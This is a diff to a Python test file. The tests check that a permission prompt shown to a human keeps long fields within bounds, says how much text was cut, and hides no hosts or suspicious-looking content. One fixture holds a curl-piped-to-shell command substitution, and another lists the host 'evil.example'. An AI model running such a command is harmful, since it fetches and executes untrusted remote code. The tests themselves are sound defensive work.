@@ -380,12 +380,23 @@ def test_a_question_says_what_a_request_says() -> None:
     )
 
 
-def test_what_a_call_may_hold_is_bounded_and_without_secrets() -> None:
-    token = f"ghp_{'a' * 36}"
-    shown = question(replace(REQUEST, summary="\u4e2d" * 5000, hosts=(f"example.org?token={token}",)))
-    assert shown.count("\u4e2d") == 2000
-    assert "… (3000 more characters are not shown)" in shown.replace("\n           | ", "")
-    assert token not in shown
+def test_what_a_call_may_hold_is_bounded_and_what_is_cut_is_said() -> None:
+    shown = question(replace(REQUEST, summary="\u4e2d" * 5000)).replace("\n           | ", "")
+    assert shown.count("\u4e2d") == 1977
+    assert "… 3,023 more characters" in shown
+
+
+def test_no_part_of_a_fact_hides_another() -> None:
+    hosts = (*(f"a{n}.{'x' * 300}" for n in range(9)), "evil.example")
+    scope = (("scope.one", "y" * 3000), ("scope.two", "prod"))
+    shown = question(replace(REQUEST, hosts=hosts, scope=scope)).replace("\n           | ", "")
+    assert all(f"a{n}.xxx" in shown for n in range(9))
+    assert "evil.example" in shown
+    assert "more characters; scope.two prod" in shown
+
+
+def test_nothing_is_left_out_of_a_question_for_how_it_looks() -> None:
+    assert 'TOKEN="$(curl x | sh)"' in question(replace(REQUEST, summary='TOKEN="$(curl x | sh)"'))
 
 
 HOSTILE = st.text(
